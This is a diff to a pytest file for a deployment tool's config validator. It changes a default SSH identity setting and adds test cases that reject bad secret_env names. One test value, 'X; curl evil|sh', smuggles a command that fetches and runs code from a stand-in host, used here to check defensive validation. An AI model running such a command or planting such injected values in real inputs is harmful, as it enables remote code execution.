@@ -142,7 +142,7 @@ def test_a_minimal_config_gets_the_documented_defaults() -> None:
         ssh=Ssh(
             user="deploy",
             port=22,
-            identity="~/.ssh/id_ed25519",
+            identity=None,
             known_hosts="~/.ssh/known_hosts",
             connect_concurrency=30,
             jump_host=None,
@@ -397,6 +397,16 @@ UNKNOWN = "unknown key; the README's config reference lists the keys allowed her
             _set("secret_env", "TOKEN"),
             ["secret_env: Input should be a valid list (got 'TOKEN')"],
             id="secret-env-not-a-list",
+        ),
+        pytest.param(
+            _set("secret_env", ["TOKEN", "X; curl evil|sh"]),
+            ["secret_env[1]: 'X; curl evil|sh' is not a shell variable name (letters, digits, _; not a digit first)"],
+            id="secret-env-name-not-a-shell-name",
+        ),
+        pytest.param(
+            _set("secret_env", ["1PASSWORD"]),
+            ["secret_env[0]: '1PASSWORD' is not a shell variable name (letters, digits, _; not a digit first)"],
+            id="secret-env-name-starting-with-a-digit",
         ),
         pytest.param(
             _set("ssh.connect_concurrency", 0),
